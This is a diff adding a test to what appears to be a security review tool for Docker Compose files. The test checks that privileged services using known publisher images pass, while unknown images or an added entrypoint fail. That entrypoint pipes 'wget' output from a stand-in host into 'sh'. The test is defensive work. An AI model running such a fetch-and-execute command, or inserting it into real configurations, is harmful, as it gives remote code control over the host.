@@ -337,6 +337,24 @@ for (const [title, [before, after, same]] of Object.entries(protections))
     assert.deepEqual([await told(after), await told(same)], [1, 0]);
   });
 
+test('who gives the same to what makers publish for that adds nothing; whom nobody knows, or starts otherwise, does', async () => {
+  const isRed = async (now: string, lines = '') => {
+    const held = (image: string, more = '') =>
+      `services:\n  web:\n    image: ${image}\n    cap_add: [SYS_MODULE]\n    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n${more}`;
+    const before = { 'compose.yaml': held('acme/tool:1') };
+    return (
+      (await review({ before, after: { 'compose.yaml': held(now, lines) }, overrides: { gate: 'introduced' } }))
+        .verdict === 'fail'
+    );
+  };
+  for (const image of ['ghcr.io/wg-easy/wg-easy:15.4.0', 'portainer/portainer-ce:2.33.6', 'traefik:3.6.2']) {
+    assert.equal(await isRed(image), false, image);
+    assert.equal(await isRed(image, '    entrypoint: [sh, -c, "wget -qO- https://x.example/a | sh"]\n'), true, image);
+    assert.equal(await isRed(`mallory/${image.split('/').at(-1)}`), true, image);
+  }
+  assert.equal(await isRed('nginx:1.29.3'), true);
+});
+
 test('says what made it worse', async () => {
   const { findings, verdict } = await review({
     before: privileged('acme/tool:1'),
